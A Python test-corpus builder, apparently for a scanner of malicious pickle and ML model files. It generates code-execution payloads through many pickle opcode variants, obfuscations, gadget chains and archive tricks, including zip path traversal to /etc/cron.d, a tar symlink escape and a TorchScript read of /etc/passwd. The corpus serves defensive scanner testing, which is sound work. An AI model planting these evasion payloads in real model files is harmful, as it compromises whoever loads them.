"""Builds the corpus of attack techniques: one file for each, its group, and the loader that proves it.

    python -m tests.corpus.techniques FOLDER

Groups follow the kinds of attack: A direct calls, B standard library, C third-party libraries, D opcode
forms and attribute chains, E streams on which readers disagree or break, F containers and names, H Keras.
Every payload at most writes a marker file in the folder of the process that loads it.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import pickle
import struct
import sys
import tarfile
import zipfile
import zlib
from pathlib import Path

from msgspec import Struct

from tests.corpus import gadgets
from tests.corpus.assemble import (
    CODE,
    COMMAND,
    EXPRESSION,
    MARKER,
    Call,
    Raw,
    call,
    dotted,
    name,
    short,
    stack_name,
    stream,
    value,
)


class Sample(Struct, frozen=True, kw_only=True):
    """One malicious file. `loader` names the library that loads it; `fires` says that the oracle must see it."""

    id: str
    group: str
    file: str
    data: bytes
    loader: str = "pickle"
    fires: bool = True


def _os():
    import os

    return os


def plain(protocol=4):
    return pickle.dumps(Call(_os().system, COMMAND), protocol)


SYSTEM = call("os.system", COMMAND)
SYSTEM_BYTES = value(SYSTEM)


def gadget_samples():
    for group, table in (("A", gadgets.DIRECT), ("B", gadgets.STANDARD), ("C", gadgets.THIRD_PARTY)):
        for number, (dotted_name, arguments, fires) in enumerate(table):
            module, attribute = dotted_name.rsplit(".", 1)
            parts = dotted_name.split(".")
            # Methods need protocol 4: the class is the last capitalised part.
            cut = next(
                (
                    i
                    for i, part in enumerate(parts[:-1])
                    if part[:1].isupper() or (part[:1] == "_" and part[1:2].isupper())
                ),
                None,
            )
            if cut is not None:
                module, attribute = ".".join(parts[:cut]), ".".join(parts[cut:])
            target = stack_name(module, attribute) if cut is not None or number % 2 else name(module, attribute)
            data = stream(call(target, *arguments))
            yield Sample(id=f"{group}-{dotted_name}", group=group, file="model.pkl", data=data, fires=fires)


def forms():
    """D: every way in which opcodes can import and call."""
    text = COMMAND.encode()
    q = b"S'" + text + b"'\n"
    yield "inst", b"(" + q + b"ios\nsystem\n."
    yield "inst-proto2", b"\x80\x02(" + q + b"ios\nsystem\n."
    yield "obj", b"\x80\x02(cos\nsystem\n" + q + b"o."
    yield "obj-stack-global", b"\x80\x04(" + value(stack_name("os", "system")) + short(COMMAND) + b"o."
    yield (
        "newobj-popen",
        stream(Raw(value(name("subprocess", "Popen")) + value((["sh", "-c", COMMAND],)) + b"R"), protocol=2),
    )
    yield "newobj-ex", b"\x80\x04" + value(name("builtins", "eval")) + value((EXPRESSION,)) + b"R."
    yield "reduce-proto0", pickle.dumps(Call(_os().system, COMMAND), 0)
    yield "reduce-proto1", pickle.dumps(Call(_os().system, COMMAND), 1)
    yield "reduce-proto5", pickle.dumps(Call(_os().system, COMMAND), 5)
    yield "build-setattr-module", b"\x80\x02" + SYSTEM_BYTES + b"0cos\npath\nN}S'x'\nK\x01s\x86b."
    yield "build-dict-on-class", b"\x80\x02ccollections\nOrderedDict\n}S'zz'\nK\x01sb0N."
    yield "build-setstate-system", b"\x80\x02ccollections\nCounter\n)\x81}S'__setstate__'\ncos\nsystem\nsb" + q + b"b."
    yield (
        "memo-get",
        b"\x80\x04" + short("os") + b"\x94" + short("system") + b"\x9400h\x00h\x01\x93" + short(COMMAND) + b"\x85R.",
    )
    yield (
        "memo-binput",
        b"\x80\x04" + short("os") + b"q\x05" + short("system") + b"q\x0600h\x05h\x06\x93" + short(COMMAND) + b"\x85R.",
    )
    yield (
        "memo-long-get",
        b"\x80\x04"
        + short("os")
        + b"r\xe8\x03\x00\x00"
        + short("system")
        + b"r\xe9\x03\x00\x0000j\xe8\x03\x00\x00j\xe9\x03\x00\x00\x93"
        + short(COMMAND)
        + b"\x85R.",
    )
    yield (
        "memo-text-get",
        b"\x80\x04" + short("os") + b"p7\n" + short("system") + b"p8\n00g7\ng8\n\x93" + short(COMMAND) + b"\x85R.",
    )
    yield (
        "memo-overwritten",
        b"\x80\x04"
        + short("math")
        + b"q\x00"
        + short("os")
        + b"q\x000"
        + short("system")
        + b"q\x0100h\x00h\x01\x93"
        + short(COMMAND)
        + b"\x85R.",
    )
    yield "dup", b"\x80\x04" + short("os") + b"20" + short("system") + b"\x93" + short(COMMAND) + b"\x85R."
    yield (
        "decoys-popped",
        b"\x80\x04"
        + short("math")
        + b"0"
        + short("os")
        + short("sqrt")
        + b"0"
        + short("system")
        + b"\x93"
        + short(COMMAND)
        + b"\x85R.",
    )
    yield (
        "mark-gap",
        b"\x80\x04"
        + short("os")
        + b"("
        + short("x")
        + short("y")
        + b"1"
        + short("system")
        + b"\x93"
        + short(COMMAND)
        + b"\x85R.",
    )
    yield "mark-popped", b"\x80\x04" + short("os") + b"(0" + short("system") + b"\x93" + short(COMMAND) + b"\x85R."
    yield (
        "binunicode8",
        b"\x80\x04\x8d"
        + struct.pack("<Q", 2)
        + b"os\x8d"
        + struct.pack("<Q", 6)
        + b"system\x93"
        + short(COMMAND)
        + b"\x85R.",
    )
    yield "binunicode", b"\x80\x04X\x02\x00\x00\x00osX\x06\x00\x00\x00system\x93" + short(COMMAND) + b"\x85R."
    yield "binstring", b"\x80\x04T\x02\x00\x00\x00osU\x06system\x93" + short(COMMAND) + b"\x85R."
    yield "string-escapes", b"\x80\x04S'\\x6f\\x73'\nS'sys\\x74em'\n\x93" + short(COMMAND) + b"\x85R."
    yield "unicode-escapes", b"\x80\x04V\\u006fs\nVsyst\\u0065m\n\x93" + short(COMMAND) + b"\x85R."
    yield "octal-escapes", b"\x80\x04S'\\157\\163'\nS'\\163ystem'\n\x93" + short(COMMAND) + b"\x85R."
    yield (
        "name-by-rot13",
        stream(
            Raw(value(call("_codecs.decode", "bf", "rot13")) + short("system") + b"\x93" + short(COMMAND) + b"\x85R")
        ),
    )
    yield (
        "name-by-join",
        stream(
            Raw(
                value(call(stack_name("builtins", "str.join"), "", ["o", "s"]))
                + short("system")
                + b"\x93"
                + short(COMMAND)
                + b"\x85R"
            )
        ),
    )
    yield "getattr-chain", stream(call(call("builtins.getattr", call("builtins.__import__", "os"), "system"), COMMAND))
    yield (
        "import-then-getattr",
        stream(call(call(call("operator.attrgetter", "system"), call("importlib.import_module", "os")), COMMAND)),
    )
    yield (
        "methodcaller",
        stream(call(call("operator.methodcaller", "system", COMMAND), call("importlib.import_module", "os"))),
    )
    yield "partial-called", stream(call(call("functools.partial", name("os", "system"), COMMAND)))
    yield "map-list", stream(call("builtins.list", call("builtins.map", name("os", "system"), [COMMAND])))
    yield "filter-list", stream(call("builtins.tuple", call("builtins.filter", name("os", "system"), [COMMAND])))
    yield "map-set", stream(call("builtins.set", call("builtins.map", name("os", "system"), [COMMAND])))
    yield "starmap-list", stream(call("builtins.list", call("itertools.starmap", name("os", "system"), [(COMMAND,)])))
    yield "sorted-key", stream(call(call("functools.partial", name("os", "system")), COMMAND))
    yield (
        "defaultdict-missing",
        stream(
            Raw(
                value(
                    call(
                        stack_name("operator", "getitem"),
                        call("collections.defaultdict", call("functools.partial", name("os", "system"), COMMAND)),
                        "x",
                    )
                )
            )
        ),
    )
    yield "resolve-name", stream(call(call("pkgutil.resolve_name", "os:system"), COMMAND))
    yield "pydoc-locate", stream(call(call("pydoc.locate", "os.system"), COMMAND))
    yield "logging-resolve", stream(call(call("logging.config._resolve", "os.system"), COMMAND))
    yield "method-type", stream(call(call("types.MethodType", name("os", "system"), COMMAND)))
    yield "exec-proto2", stream(call("builtins.exec", CODE), protocol=2)
    yield "marshal-function", _marshalled()
    yield "result-popped", stream(SYSTEM, {"weights": [1, 2, 3]})
    yield "inside-list", stream([1, 2, SYSTEM, 3])
    yield "inside-dict-key", stream({SYSTEM: 1})
    yield "inside-tuple", stream((1, (2, (3, SYSTEM))))
    yield "many-protos", b"\x80\x04\x80\x02\x80\x05" + SYSTEM_BYTES + b"."
    yield "no-proto", SYSTEM_BYTES + b"."
    yield "proto-lie", b"\x80\x00" + value(stack_name("os", "system")) + short(COMMAND) + b"\x85R."
    yield "persid-text", SYSTEM_BYTES + b"0Pabc\n."
    yield "after-ten-thousand", b"\x80\x04" + b"K\x010" * 10_000 + SYSTEM_BYTES + b"."
    yield "after-200-thousand", b"\x80\x04](" + b"K\x01" * 200_000 + b"e0" + SYSTEM_BYTES + b"."
    yield (
        "after-30-megabytes",
        b"\x80\x04X" + struct.pack("<I", 30_000_000) + b"a" * 30_000_000 + b"0" + SYSTEM_BYTES + b".",
    )
    yield "deep-nesting", b"\x80\x04" + b"(" * 1000 + SYSTEM_BYTES + b"t" * 1000 + b"."
    yield "ext-registered", b"\x80\x02ccopyreg\nadd_extension\n(S'os'\nS'system'\nK\xf0tR0\x82\xf0(" + q + b"tR."
    yield (
        "ext-inverted-registry",
        b"\x80\x04"
        b"ccopyreg\n_inverted_registry\nK\xf1" + value(("os", "system")) + b"s0\x82\xf1" + value((COMMAND,)) + b"R.",
    )
    yield (
        "sys-modules-overwrite",
        b"\x80\x04csys\nmodules\n" + short("sys") + value(name("os", "path")) + b"s0" + SYSTEM_BYTES + b".",
    )
    yield "nested-raw", stream(call("pickle.loads", plain()))
    yield (
        "nested-reduce-base64",
        stream(call("pickle.loads", call("base64.b64decode", base64.b64encode(plain()).decode()))),
    )
    yield "exec-zlib", stream(call("builtins.exec", call("zlib.decompress", zlib.compress(CODE.encode()))))
    yield "eval-compile", stream(call("builtins.eval", call("builtins.compile", CODE, "x", "exec")))
    yield "codecs-encode-exec", stream(call("builtins.exec", call("_codecs.encode", CODE, "latin1")))
    yield (
        "torch-rebuild-from-type",
        stream(
            call(
                "torch._tensor._rebuild_from_type_v2",
                name("os", "system"),
                name("torch", "Tensor"),
                (COMMAND,),
                Raw(b"N"),
            )
        ),
    )
    yield (
        "dict-get-called",
        stream(call(call(stack_name("builtins", "dict.get"), {"a": name("os", "system")}, "a"), COMMAND)),
    )
    yield (
        "numpy-reconstruct-call",
        stream(call("numpy._core.multiarray._reconstruct", name("subprocess", "Popen"), (0,), b"b")),
    )
    yield "weird-whitespace-module", b"\x80\x02cos\nsystem\n" + q + b"\x85R."
    yield "frozenset-of-calls", b"\x80\x04(" + SYSTEM_BYTES + b"\x91."
    yield "additems", b"\x80\x04\x8f(" + SYSTEM_BYTES + b"\x90."


def _marshalled():
    import marshal

    code = marshal.dumps(compile(CODE, "x", "exec"))
    return stream(call(call("types.FunctionType", call("marshal.loads", code), call("builtins.globals"))))


def broken():
    """E: the payload runs, then the stream breaks; or two readers disagree."""
    for protocol in (0, 4):
        body = plain(protocol)[:-1]
        for kind, tail in (
            ("no-stop", b""),
            ("bad-opcode", b"\xff"),
            ("zero-byte", b"\x00"),
            ("underflow", b"0000."),
            ("missing-memo", b"h\xfe."),
            ("cut-string", b"X\xff\xff\x00\x00abc"),
            ("bad-utf8", b"X\x02\x00\x00\x00\xff\xfe."),
            ("missing-mark", b"t."),
            ("unknown-extension", b"\x82\x7f."),
            ("next-buffer", b"\x97."),
            ("long-bytearray", b"\x96" + b"\xff" * 7 + b"\x7f"),
            ("odd-items", b"}(K\x01u."),
            ("bad-int", b"Ixyz\n."),
            ("bad-float", b"Fxyz\n."),
            ("unquoted-string", b"Sabc\n."),
            ("negative-put", b"p-1\n."),
            ("global-cut", b"cos\nsyst"),
            ("proto-9", b"\x80\x09."),
            ("memo-huge", b"r\xff\xff\xff\x7f."),
            ("stack-global-ints", b"K\x01K\x02\x93."),
            ("setitem-on-int", b"K\x01K\x02K\x03s."),
        ):
            if protocol == 4 and kind == "memo-huge":
                continue
            # A frame that promises more bytes than there are stops the C reader before anything runs.
            yield f"{kind}-{protocol}", body + tail, (kind, protocol) != ("no-stop", 4)
    for kind, op in (
        ("hex-int", b"I0x10\n"),
        ("octal-int", b"I0o17\n"),
        ("c-octal-int", b"I017\n"),
        ("nul-int", b"I1\x00zz\n"),
        ("hex-long", b"L0x1FL\n"),
        ("binary-int", b"I0b101\n"),
        ("blank-int", b"I 7\n"),
        ("nul-float", b"F1.5\x00zz\n"),
        ("underscore-int", b"I1_000\n"),
    ):
        yield f"{kind}-0", op + b"0" + SYSTEM_BYTES + b".", True
        yield f"{kind}-4", b"\x80\x04" + op + b"0" + SYSTEM_BYTES + b".", True
    frame = SYSTEM_BYTES + b"."
    yield "frame-too-short", b"\x80\x04\x95" + struct.pack("<Q", 3) + frame, True
    yield "frame-zero", b"\x80\x04\x95" + struct.pack("<Q", 0) + frame, True
    yield (
        "frame-nested",
        b"\x80\x04\x95" + struct.pack("<Q", len(frame)) + b"\x95" + struct.pack("<Q", 4) + frame[:-9] + frame[-9:],
        True,
    )
    yield "frame-straddles", b"\x80\x04\x95" + struct.pack("<Q", 12) + frame, True
    yield "second-pickle", pickle.dumps({"a": 1}) + plain(), True
    yield "thousand-then-payload", pickle.dumps(1) * 1000 + plain(), True
    yield "junk-then-pickle", pickle.dumps({"a": 1}) + b"\x00junk\x00" * 5 + plain(2), False


def zip_bytes(members, *, root="archive", method=zipfile.ZIP_STORED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for member, data in members:
            archive.writestr(f"{root}/{member}" if root else member, data)
    return buffer.getvalue()


def torch_zip(payload=None, extra=()):
    members = [
        ("data.pkl", payload if payload is not None else plain(2)),
        ("byteorder", b"little"),
        ("version", b"3\n"),
        (".data/serialization_id", b"1"),
        *extra,
    ]
    return zip_bytes(members)


def containers():
    """F: names, archives and compressions around a payload."""
    p0, p2, p4 = plain(0), plain(2), plain(4)
    for file in (
        "model.bin",
        "model",
        "MODEL.PKL",
        "model.txt",
        "model.json",
        "model.safetensors",
        "model.npy",
        "model.pt",
        "model.h5",
        "model.gguf",
        "model.dat",
        "model.pickle",
        "model.ckpt",
        "model.md",
        "tokenizer.model",
        "model.pb",
        "model.onnx",
        "weights.csv",
        "model.zip",
    ):
        yield f"name-{file}", file, p4, "pickle", True
        yield f"text-name-{file}", file, p0, "pickle", True
    yield "torch-zip", "model.pt", torch_zip(), "torch", True
    yield "torch-zip-bin", "pytorch_model.bin", torch_zip(), "torch", True
    yield "torch-zip-proto0", "model.pt", torch_zip(p0), "torch", True
    yield (
        "torch-zip-compressed",
        "model.pt",
        zip_bytes([("data.pkl", p2), ("version", b"3\n")], method=zipfile.ZIP_DEFLATED),
        "torch",
        True,
    )
    yield "torch-prefix", "model.pt", b"#!/bin/sh\n" + torch_zip(), "torch", False
    yield "torch-trailing", "model.pt", torch_zip() + b"\x00" * 100, "torch", True
    yield "torch-comment", "model.pt", _with_comment(torch_zip()), "torch", False
    for bit in (0x1, 0x20, 0x40):
        yield f"flag-{bit:x}-local", "model.pt", _flags(torch_zip(), bit, central=False), "torch", True
        yield f"flag-{bit:x}-both", "model.pt", _flags(torch_zip(), bit, central=True), "torch", False
    yield "bad-crc", "model.pt", _bad_crc(torch_zip()), "torch", True
    yield "name-mismatch", "model.pt", _local_name(torch_zip()), "torch", True
    yield "duplicate-bad-first", "model.pt", _duplicate(p2, pickle.dumps({}, 2)), "torch", False
    yield "duplicate-bad-last", "model.pt", _duplicate(pickle.dumps({}, 2), p2), "zipfile", True
    yield "hidden-entry", "model.pt", _hidden_entry(), "none", False
    yield "second-pickle-member", "model.pt", torch_zip(pickle.dumps({}, 2), [("extra.pkl", p4)]), "none", False
    yield "odd-name-member", "model.pt", torch_zip(pickle.dumps({}, 2), [("notes.txt", p0)]), "none", False
    yield "pickle-as-storage", "model.pt", torch_zip(pickle.dumps({}, 2), [("data/0", p4)]), "none", False
    yield "broken-member-first", "model.pt", _broken_first(), "torch", True
    yield (
        "encrypted-first",
        "model.pt",
        _flags(zip_bytes([("aaa", b"\x01\x02\x03"), ("data.pkl", p2), ("version", b"3\n")]), 0x1, central=True, only=0),
        "none",
        False,
    )
    yield "zip-in-zip", "model.zip", zip_bytes([("inner.zip", torch_zip())]), "none", False
    yield "zip-of-pt", "models.zip", zip_bytes([("model.pt", torch_zip()), ("readme.txt", b"hello")]), "none", False
    yield "tar", "model.tar", _tar([("model.pkl", p4)]), "none", False
    yield "tar-gz", "model.tar.gz", gzip.compress(_tar([("model.pt", torch_zip())])), "none", False
    yield (
        "nemo",
        "model.nemo",
        _tar([("model_weights.ckpt", torch_zip()), ("model_config.yaml", b"a: 1\n")]),
        "none",
        False,
    )
    yield (
        "mar",
        "model.mar",
        zip_bytes([("model.pt", torch_zip()), ("MAR-INF/MANIFEST.json", b"{}")], root=""),
        "none",
        False,
    )
    for codec, squeeze in (
        ("gz", gzip.compress),
        ("bz2", bz2.compress),
        ("xz", lzma.compress),
        ("zlib", zlib.compress),
        ("lzma", lambda d: lzma.compress(d, lzma.FORMAT_ALONE)),
    ):
        yield (
            f"{codec}-pickle",
            f"model.pkl.{codec}",
            squeeze(p4),
            "joblib" if codec != "lzma" else "none",
            codec != "lzma",
        )
        yield (
            f"{codec}-no-extension",
            "model",
            squeeze(p4),
            "joblib" if codec != "lzma" else "none",
            codec != "lzma",
        )
    import lz4.frame
    import zstandard

    yield "zstd-pickle", "model.pkl.zst", zstandard.compress(p4), "none", False
    yield "lz4-pickle", "model.pkl.lz4", lz4.frame.compress(p4), "joblib", True
    yield "7z-in-pt", "model.pt", _seven(p4), "none", False
    yield (
        "joblib-after-array",
        "model.joblib",
        _joblib([_numpy().arange(10), Call(_os().system, COMMAND)]),
        "joblib",
        True,
    )
    yield (
        "joblib-before-array",
        "model.joblib",
        _joblib([Call(_os().system, COMMAND), _numpy().arange(10)]),
        "joblib",
        True,
    )
    yield (
        "joblib-object-array",
        "model.joblib",
        _joblib([_numpy().array([Call(_os().system, COMMAND), 1], object)]),
        "joblib",
        True,
    )
    for compress in (1, ("gzip", 3), ("bz2", 3), ("lzma", 3), ("xz", 3), ("lz4", 3)):
        label = compress if isinstance(compress, int) else compress[0]
        yield (
            f"joblib-{label}",
            "model.joblib",
            _joblib([_numpy().arange(1000), Call(_os().system, COMMAND)], compress),
            "joblib",
            True,
        )
    yield "npy-object", "array.npy", _npy(_numpy().array([Call(_os().system, COMMAND)], object)), "numpy", True
    yield (
        "npz-object",
        "arrays.npz",
        _npz(a=_numpy().arange(3), b=_numpy().array([Call(_os().system, COMMAND)], object)),
        "npz",
        True,
    )
    yield (
        "npz-extra-pickle",
        "arrays.npz",
        zip_bytes([("a.npy", _npy(_numpy().arange(3))), ("b.pkl", p4)], root=""),
        "none",
        False,
    )
    yield (
        "npy-header-code",
        "array.npy",
        _npy_header("{'descr': '<f8', 'fortran_order': False, 'shape': (__import__('os').system('x'),), }"),
        "none",
        False,
    )
    yield "legacy-torch", "model.pt", _legacy({"a": Call(_os().system, COMMAND)}), "torch", True
    yield "legacy-torch-sysinfo", "model.pt", _legacy_sysinfo(), "torch", True
    yield "legacy-torch-magic", "model.pt", plain(2) + _legacy({"a": 1}), "torch", True
    yield "path-traversal", "model.zip", zip_bytes([("../../evil.py", b"x")]), "none", False
    yield "absolute-path", "model.zip", zip_bytes([("/etc/cron.d/evil", b"x")], root=""), "none", False
    yield "tar-symlink-escape", "model.tar", _tar_link(), "none", False
    yield "zip-elf", "model.zip", zip_bytes([("lib.so", b"\x7fELF\x02\x01\x01" + b"\x00" * 60)]), "none", False
    yield "pdf-zip-polyglot", "paper.pdf", b"%PDF-1.4\n" + torch_zip(), "none", False
    yield "pickle-zip-polyglot", "model.pkl", p4 + torch_zip(pickle.dumps({}, 2)), "pickle", True
    yield "torchscript-from-file", "model.pt", _torchscript(), "none", False
    yield (
        "torch-package-code",
        "model.pt",
        zip_bytes(
            [
                (".data/extern_modules", b"os\n"),
                (".data/version", b"1"),
                (".data/python_version", b"3.11"),
                ("pkg/__init__.py", CODE.encode()),
                ("model/model.pkl", p4),
            ]
        ),
        "none",
        False,
    )
    yield (
        "pt2-native",
        "model.pt2",
        zip_bytes(
            [
                ("archive_format", b"pt2"),
                ("data/aotinductor/model/x.wrapper.so", b"\x7fELF" + b"\x00" * 60),
                ("models/model.json", b"{}"),
            ],
            root="m",
        ),
        "none",
        False,
    )
    yield (
        "pt2-pickle-inputs",
        "model.pt2",
        zip_bytes(
            [("archive_format", b"pt2"), ("data/sample_inputs/model.pt", torch_zip()), ("models/model.json", b"{}")],
            root="m",
        ),
        "none",
        False,
    )
    yield "dcp-metadata", ".metadata", p4, "pickle", True
    yield "training-args", "training_args.bin", torch_zip(), "torch", True
    yield "flax-ext", "flax_model.msgpack", b"\x81\xa1a\xc7\x04\x2aevil", "none", False
    yield "flax-object", "flax_model.msgpack", b"\x81\xa1a\xc7\x0c\x01\x93\x91\x01\xa6object\xc4\x00", "none", False
    yield (
        "skops-confusion",
        "model.skops",
        _skops({"__class__": "system", "__module__": "os", "__loader__": "OperatorFuncNode", "attrs": {}}),
        "none",
        False,
    )
    yield "skops-not-zip", "model.skops", p4, "joblib", True
    yield (
        "safetensors-duplicate",
        "model.safetensors",
        _safetensors(
            '{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"a":{"dtype":"F32","shape":[1],"data_offsets":[4,8]}}',
            8,
        ),
        "none",
        False,
    )
    yield (
        "safetensors-overlap",
        "model.safetensors",
        _safetensors(
            '{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"b":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}',
            4,
        ),
        "none",
        False,
    )
    yield (
        "safetensors-code",
        "model.safetensors",
        _safetensors(
            '{"__metadata__":{"config":"_target_: os.system"},"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}', 4
        ),
        "none",
        False,
    )
    yield (
        "safetensors-tail-zip",
        "model.safetensors",
        _safetensors('{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}', 4) + torch_zip(),
        "none",
        False,
    )
    yield (
        "safetensors-size-lie",
        "model.safetensors",
        _safetensors('{"a":{"dtype":"F32","shape":[1000000],"data_offsets":[0,4]}}', 4),
        "none",
        False,
    )
    yield "dill-function", "model.dill", _dill(), "dill", True
    yield "cloudpickle-function", "model.pkl", _cloudpickle(), "pickle", True
    yield "pandas-tar-gz", "frame.pkl.tar.gz", gzip.compress(_tar([("frame.pkl", p4)])), "pandas", True


def _numpy():
    import numpy

    return numpy


def _with_comment(data):
    return data[:-2] + struct.pack("<H", 60000) + b"c" * 60000


def _flags(data, bit, *, central, only=None):
    out = bytearray(data)
    for signature, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        if signature == b"PK\x01\x02" and not central:
            continue
        position, number = out.find(signature), 0
        while position >= 0:
            if only is None or number == only:
                out[position + at] |= bit
            position, number = out.find(signature, position + 4), number + 1
    return bytes(out)


def _bad_crc(data):
    out = bytearray(data)
    for signature, at in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
        position = out.find(signature)
        out[position + at] ^= 0xFF
    return bytes(out)


def _local_name(data):
    out = bytearray(data)
    at = out.find(b"archive/data.pkl")
    out[at : at + 16] = b"archive/dbta.pkl"
    return bytes(out)


def _duplicate(first, last):
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return zip_bytes([("data.pkl", first), ("version", b"3\n"), ("data.pkl", last)])


def _hidden_entry():
    inner = zip_bytes([("data.pkl", plain(2))])
    local = inner[: inner.find(b"PK\x01\x02")]
    outer = torch_zip(pickle.dumps({}, 2))
    cut = outer.find(b"PK\x01\x02")
    directory = bytearray(outer[cut:])
    end = directory.rfind(b"PK\x05\x06")
    struct.pack_into("<I", directory, end + 16, cut + len(local))
    return outer[:cut] + local + bytes(directory)


def _broken_first():
    data = bytearray(
        zip_bytes(
            [("aaa", b"hello world" * 10), ("data.pkl", plain(2)), ("version", b"3\n")], method=zipfile.ZIP_DEFLATED
        )
    )
    at = data.find(b"aaa") + 3
    data[at : at + 4] = b"\xff\xff\xff\xff"
    return bytes(data)


def _tar(members):
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for member, data in members:
            info = tarfile.TarInfo(member)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def _tar_link():
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        info = tarfile.TarInfo("out")
        info.type, info.linkname = tarfile.SYMTYPE, "../../etc"
        archive.addfile(info)
        info = tarfile.TarInfo("out/cron.d")
        info.size = 1
        archive.addfile(info, io.BytesIO(b"x"))
    return buffer.getvalue()


def _seven(data):
    import py7zr

    buffer = io.BytesIO()
    with py7zr.SevenZipFile(buffer, "w") as archive:
        archive.writestr(data, "model/data.pkl")
    return buffer.getvalue()


def _joblib(thing, compress=0):
    import joblib

    buffer = io.BytesIO()
    joblib.dump(thing, buffer, compress=compress)
    return buffer.getvalue()


def _npy(array):
    buffer = io.BytesIO()
    _numpy().save(buffer, array, allow_pickle=True)
    return buffer.getvalue()


def _npz(**arrays):
    buffer = io.BytesIO()
    _numpy().savez(buffer, **arrays)
    return buffer.getvalue()


def _npy_header(text):
    header = text.encode().ljust(118) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header


def _legacy(thing):
    import torch

    buffer = io.BytesIO()
    torch.save(thing, buffer, _use_new_zipfile_serialization=False)
    return buffer.getvalue()


def _legacy_sysinfo():
    head = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2)
    info = stream(
        Raw(value({"protocol_version": 1001, "little_endian": True, "type_sizes": {}, "x": SYSTEM})), protocol=2
    )
    return head + info + pickle.dumps({}, 2) + pickle.dumps([], 2)


def _torchscript():
    code = b'def forward(self, x):\n  _0 = ops.aten.from_file("/etc/passwd", False, 10)\n  return x\n'
    return zip_bytes(
        [
            ("data.pkl", pickle.dumps({}, 2)),
            ("constants.pkl", pickle.dumps((), 2)),
            ("code/__torch__.py", code),
            ("version", b"3\n"),
        ]
    )


def _skops(node):
    schema = {"protocol": 2, "_skops_version": "0.16", **node}
    return zip_bytes([("schema.json", json.dumps(schema).encode())], root="")


def _safetensors(header, size):
    raw = header.encode()
    return struct.pack("<Q", len(raw)) + raw + b"\x00" * size


def _module_function():
    namespace = {"__name__": "__main__"}
    exec(
        f"class Late:\n    def __reduce__(self):\n        return (lambda: open({MARKER!r}, 'w').close()), ()\nmake = Late",
        namespace,
    )
    return namespace["make"]()


def _dill():
    import dill

    return dill.dumps(_module_function())


def _cloudpickle():
    import cloudpickle

    return cloudpickle.dumps(_module_function())


def keras_models():
    """H: a Lambda layer in both Keras formats, saved by Keras itself."""
    import os

    os.environ.setdefault("KERAS_BACKEND", "torch")
    import tempfile

    import keras

    layer = keras.layers.Lambda(eval(f"lambda x: (open({MARKER!r}, 'w').close(), x)[1]"))
    model = keras.Sequential([keras.Input((2,)), keras.layers.Dense(1)])
    config = json.loads(model.to_json())
    config["config"]["layers"].append(keras.saving.serialize_keras_object(layer))
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder, "m.keras")
        model.save(path)
        with zipfile.ZipFile(path) as archive:
            members = [(info.filename, archive.read(info.filename)) for info in archive.infolist()]
        members = [(n, json.dumps(config).encode() if n == "config.json" else d) for n, d in members]
        yield "keras-lambda", "model.keras", zip_bytes(members, root="")
        import h5py

        path = Path(folder, "m.h5")
        with h5py.File(path, "w") as file:
            file.attrs["model_config"] = json.dumps(config)
            file.attrs["keras_version"] = keras.__version__
        yield "h5-lambda", "model.h5", path.read_bytes()


def samples():
    """Every sample of the corpus."""
    yield from gadget_samples()
    silent = {"build-dict-on-class", "numpy-reconstruct-call"}
    for identifier, data in forms():
        yield Sample(id=f"D-{identifier}", group="D", file="model.pkl", data=data, fires=identifier not in silent)
    absent = {"numpy"}  # no longer reachable by that chain in the library's current version
    for module, path in gadgets.CHAINS:
        if path.endswith(("system", "open")):
            arguments = (COMMAND,) if path.endswith("system") else (MARKER, "w")
            yield Sample(
                id=f"D-chain-{module}-{path}",
                group="D",
                file="model.pkl",
                data=dotted(module, path, *arguments),
                fires=module not in absent,
            )
        else:
            yield Sample(
                id=f"D-chain-{module}-{path}",
                group="D",
                file="model.pkl",
                data=stream(Raw(value(stack_name(module, path)))),
                fires=False,
            )
    for identifier, data, fires in broken():
        yield Sample(id=f"E-{identifier}", group="E", file="model.pkl", data=data, fires=fires)
    for identifier, file, data, loader, fires in containers():
        yield Sample(id=f"F-{identifier}", group="F", file=file, data=data, loader=loader, fires=fires)
    for identifier, file, data in keras_models():
        yield Sample(id=f"H-{identifier}", group="H", file=file, data=data, loader="none", fires=False)


def write(folder: Path) -> list[Sample]:
    """Write every sample to `folder/ID/FILE` and return the list."""
    made = []
    for sample in samples():
        target = folder / sample.id.replace("/", "_").replace(" ", "_") / sample.file
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(sample.data)
        made.append(sample)
    return made


if __name__ == "__main__":
    listed = write(Path(sys.argv[1]))
    print(len(listed), "samples")
